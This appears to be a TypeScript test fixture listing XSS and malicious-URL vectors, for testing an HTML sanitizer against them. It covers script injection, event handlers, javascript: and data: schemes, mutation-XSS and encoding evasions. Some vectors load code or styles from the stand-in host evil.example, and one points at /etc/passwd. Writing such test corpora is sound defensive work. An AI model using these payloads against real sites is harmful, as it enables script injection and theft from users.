// Attempts to run code or to reach out, written for this test after the kinds that the OWASP cheat sheet on
// XSS filter evasion and the HTML Security Cheatsheet list. Each calls `pwn()` if it works.

/** What is put where a text, a name or HTML is expected. */
export const markupVectors: Record<string, string> = {
  script: '<script>pwn()</script>',
  'script with a source': '<script src="//evil.example/x.js"></script>',
  'script in a script': '<scr<script>ipt>pwn()</scr</script>ipt>',
  'script in svg': '<svg><script>pwn()</script></svg>',
  'module script': '<script type=module>pwn()</script>',
  'image with a handler': '<img src=x onerror=pwn()>',
  'image without quotes or spaces': '<img/src=x/onerror=pwn()>',
  'image with an entity': '<img src=x onerror="&#112;wn()">',
  'image with a scheme': '<img src="javascript:pwn()">',
  'image in a picture':
    '<picture><source srcset="//evil.example/a.png"><img src=x onerror=pwn()></picture>',
  'svg with a handler': '<svg onload=pwn()>',
  'svg animation': '<svg><animate onbegin=pwn() attributeName=x dur=1s>',
  'svg animated link':
    '<svg><a><animate attributeName=href values=javascript:pwn() /><text y=20>x</text></a></svg>',
  'svg use':
    '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>pwn()</script></svg>#x"/></svg>',
  'svg foreign object':
    '<svg><foreignObject><iframe srcdoc="<script>parent.pwn()</script>"></foreignObject></svg>',
  'svg style': '<svg><style><img src=x onerror=pwn()></style></svg>',
  'mathml link': '<math href="javascript:pwn()"><mtext>x</mtext></math>',
  'mathml confusion':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=pwn()&gt;">',
  'mutation by noscript': '<noscript><p title="</noscript><img src=x onerror=pwn()>">',
  'mutation by template': '<template><img src=x onerror=pwn()></template>',
  'mutation by form':
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=pwn()>',
  'mutation by select':
    '<select><option><style></option></select><img src=x onerror=pwn()></style>',
  'mutation by comment': '<!--><img src=x onerror=pwn()>-->',
  'mutation by title': '<svg></p><title><a id="</title><img src=x onerror=pwn()>">',
  'mutation by xmp': '<xmp><p title="</xmp><img src=x onerror=pwn()>">',
  'mutation by textarea': '<textarea><p title="</textarea><img src=x onerror=pwn()>">',
  'link with a scheme': '<a href="javascript:pwn()">x</a>',
  'link with a tab in the scheme': '<a href="java\tscript:pwn()">x</a>',
  'link with an entity': '<a href="&#106;avascript:pwn()">x</a>',
  'link with control characters': '<a href="\u0001javascript:pwn()">x</a>',
  'link with data': '<a href="data:text/html,<script>pwn()</script>">x</a>',
  'link with vbscript': '<a href="vbscript:pwn()">x</a>',
  'link with a blob': '<a href="blob:null/1">x</a>',
  'link with a ping': '<a href="https://good.example/" ping="https://evil.example/">x</a>',
  xlink: '<svg><a xlink:href="javascript:pwn()"><text>x</text></a></svg>',
  'area in a map':
    '<map name=m><area href="javascript:pwn()" shape=default></map><img usemap=#m src=x>',
  iframe: '<iframe src="javascript:parent.pwn()"></iframe>',
  'iframe with a document': '<iframe srcdoc="<script>parent.pwn()</script>"></iframe>',
  object: '<object data="javascript:pwn()"></object>',
  embed: '<embed src="javascript:pwn()">',
  applet: '<applet code="x" codebase="//evil.example/"></applet>',
  base: '<base href="//evil.example/">',
  refresh: '<meta http-equiv=refresh content="0;url=javascript:pwn()">',
  'style element': '<style>@import "//evil.example/x.css"; * { display: none !important }</style>',
  'style attribute': '<p style="background:url(//evil.example/a.png);position:fixed;inset:0">x</p>',
  'style sheet': '<link rel=stylesheet href="//evil.example/x.css">',
  preload: '<link rel=preload as=image href="//evil.example/a.png">',
  form: '<form action="javascript:pwn()"><button>x</button></form>',
  'form action of a button':
    '<button formaction="javascript:pwn()" form=f>x</button><form id=f></form>',
  'input with focus': '<input autofocus onfocus=pwn()>',
  details: '<details open ontoggle=pwn()><summary>x</summary></details>',
  video: '<video src=x onerror=pwn()></video>',
  'video source': '<video><source onerror=pwn() src=x></video>',
  'video poster': '<video poster="//evil.example/a.png"></video>',
  audio: '<audio src=x onerror=pwn()>',
  marquee: '<marquee onstart=pwn()>x</marquee>',
  dialog: '<dialog open onclose=pwn()>x</dialog>',
  'content editable': '<p contenteditable onfocus=pwn() tabindex=1 autofocus>x</p>',
  'popover handler': '<div popover onbeforetoggle=pwn() id=p>x</div>',
  'animation handler': '<p style="animation:x" onanimationstart=pwn()>x</p>',
  'content visibility handler':
    '<p oncontentvisibilityautostatechange=pwn() style="content-visibility:auto">x</p>',
  'clobbered document': '<img name=cookie><form name=querySelector></form><a id=body></a>',
  'clobbered attributes': '<form id=x><input name=attributes><input name=parentNode></form>',
  'slot of the card': '<p slot=title part=title class=card id=title>x</p>',
  'shadow root': '<div><template shadowrootmode=open><img src=x onerror=pwn()></template></div>',
  'custom element':
    '<euromed-news-card src="https://evil.example/a.json" loading=eager></euromed-news-card>',
  'is attribute': '<p is="evil-element" nonce=x>x</p>',
  'Lit marker': '<!--?lit$123$--><?lit$123$>{{x}}${pwn()}',
  'unclosed tag': '<img src=x onerror=pwn() ',
  'null byte': '<img src=x on\u0000error=pwn()><scr\u0000ipt>pwn()</scr\u0000ipt>',
  'wrong encoding': '+ADw-script+AD4-pwn()+ADw-/script+AD4-',
  'escaped twice':
    '&lt;img src=x onerror=pwn()&gt;&amp;lt;script&amp;gt;pwn()&amp;lt;/script&amp;gt;',
  cdata: '<![CDATA[<img src=x onerror=pwn()>]]>',
  'processing instruction': '<?xml-stylesheet href="javascript:pwn()"?>',
  nesting: `${'<div>'.repeat(300)}<img src=x onerror=pwn()>`,
};

/** What is put where an address is expected. */
export const urlVectors: Record<string, string> = {
  javascript: 'javascript:pwn()',
  'upper case': 'JaVaScRiPt:pwn()',
  'leading control character': '\u0001javascript:pwn()',
  'tab within': 'java\tscript:pwn()',
  'line break within': 'java\nscript:pwn()',
  data: 'data:text/html,<script>pwn()</script>',
  'data image': 'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="pwn()"/>',
  vbscript: 'vbscript:pwn()',
  blob: 'blob:https://evil.example/1',
  file: 'file:///etc/passwd',
  'view source': 'view-source:https://good.example/',
  'word-processor quotes': '”javascript:pwn()”',
  'attribute break': 'https://good.example/" onerror="pwn()',
  'markup in a path': 'https://good.example/<img src=x onerror=pwn()>',
};
